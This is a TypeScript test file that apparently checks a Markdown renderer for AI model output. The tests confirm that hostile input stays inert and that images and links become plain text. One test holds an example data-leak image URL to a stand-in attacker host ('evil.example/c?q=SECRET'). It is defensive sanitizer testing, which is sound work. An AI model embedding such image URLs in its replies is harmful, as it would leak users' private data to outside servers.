import { describe, expect, it } from "vitest";
import { renderMarkdown } from "../src/markdown";
import hostile from "./fixtures/hostile_markdown.json";

const ALLOWED = new Set([
  "P",
  "H1",
  "H2",
  "H3",
  "H4",
  "H5",
  "H6",
  "BLOCKQUOTE",
  "UL",
  "OL",
  "LI",
  "EM",
  "STRONG",
  "S",
  "TABLE",
  "THEAD",
  "TBODY",
  "TR",
  "TH",
  "TD",
  "SPAN",
  "CODE",
  "PRE",
  "BR",
  "HR",
]);

function render(text: string): HTMLElement {
  const box = document.createElement("div");
  box.appendChild(renderMarkdown(text));
  return box;
}

const HOSTILE: string[] = hostile; // shared with tests/test_safe_markdown.py

describe("model output as Markdown", () => {
  for (const text of HOSTILE) {
    it(`hostile input stays inert: ${JSON.stringify(text).slice(0, 50)}`, () => {
      const box = render(text);
      for (const node of box.querySelectorAll("*")) {
        expect(ALLOWED.has(node.tagName), node.tagName).toBe(true);
        for (const attr of node.attributes) expect(["class", "start"]).toContain(attr.name);
      }
      expect(box.querySelectorAll("img, a, script, iframe, svg, style, details, [src], [href], [style]").length).toBe(
        0,
      );
    });
  }

  it("code shows what the model wrote, with its language", () => {
    const box = render("Use `a < b && c > d`:\n\n```python\nif a < b:\n\n    print('<b>&amp;</b>')\n```\n");
    const codes = [...box.querySelectorAll("code")].map((c) => c.textContent);
    expect(codes).toEqual(["a < b && c > d", "if a < b:\n\n    print('<b>&amp;</b>')\n"]);
    expect(box.querySelector("pre > code")!.className).toBe("language-python");
  });

  it("images and links are written out as text with their URL", () => {
    const box = render(
      "See ![chart](https://evil.example/c?q=SECRET) and [docs](https://docs.example/x) or <https://a.example>.",
    );
    expect(box.textContent).toBe(
      "See [image: chart — https://evil.example/c?q=SECRET] and docs (https://docs.example/x) or https://a.example.",
    );
  });

  it("formatting: headings, emphasis, lists, tables, quotes", () => {
    const box = render(
      "# Title\n\n**bold**, *it*, ~~gone~~\n\n3. three\n4. four\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted",
    );
    expect(box.querySelector("h1")!.textContent).toBe("Title");
    expect([...box.querySelectorAll("strong, em, s")].map((n) => n.textContent)).toEqual(["bold", "it", "gone"]);
    expect(box.querySelector("ol")!.getAttribute("start")).toBe("3");
    expect([...box.querySelectorAll("td")].map((n) => n.textContent)).toEqual(["1", "2"]);
    expect(box.querySelector("blockquote")!.textContent!.trim()).toBe("quoted");
  });

  it("a single newline is a line break, as the model wrote it", () => {
    const box = render("1\n2\n3");
    expect(box.querySelectorAll("p > br").length).toBe(2);
    expect(box.textContent).toBe("123");
  });

  it("text with no Markdown is one paragraph", () => {
    const box = render("Paris is the capital of France.");
    expect(box.innerHTML).toBe("<p>Paris is the capital of France.</p>");
  });
});
